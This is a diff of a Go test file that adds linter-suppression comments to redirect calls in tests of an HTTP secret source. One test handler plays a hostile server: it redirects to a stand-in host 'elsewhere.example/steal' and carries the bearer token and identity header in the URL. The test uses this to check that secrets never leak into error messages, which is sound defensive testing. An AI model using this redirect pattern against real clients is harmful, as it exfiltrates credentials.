@@ -292,7 +292,7 @@ func TestHTTPSourceSecretsNeverInErrors(t *testing.T) {
 		},
 		"redirect to a host named by the secret": func(w http.ResponseWriter, r *http.Request) {
 			secret := strings.TrimPrefix(r.Header.Get("Authorization"), "bearer ") + r.Header.Get("X-Identity-Header")
-			http.Redirect(w, r, "http://"+secret+"elsewhere.example/steal?t="+secret, http.StatusFound)
+			http.Redirect(w, r, "http://"+secret+"elsewhere.example/steal?t="+secret, http.StatusFound) //nolint:gosec // G710: the open redirect is the attack under test
 		},
 	}
 	for i, p := range httpProviders {
@@ -343,7 +343,7 @@ func TestHTTPSourceRedirects(t *testing.T) {
 		t.Run(providerLabel(i, p)+"/same host", func(t *testing.T) {
 			srv, rec := fakeServer(t, func(w http.ResponseWriter, r *http.Request) {
 				if r.URL.Path != "/moved" {
-					http.Redirect(w, r, "/moved?"+r.URL.RawQuery, http.StatusTemporaryRedirect)
+					http.Redirect(w, r, "/moved?"+r.URL.RawQuery, http.StatusTemporaryRedirect) //nolint:gosec // G710: a same-server redirect under test
 					return
 				}
 				p.answer(w, good)
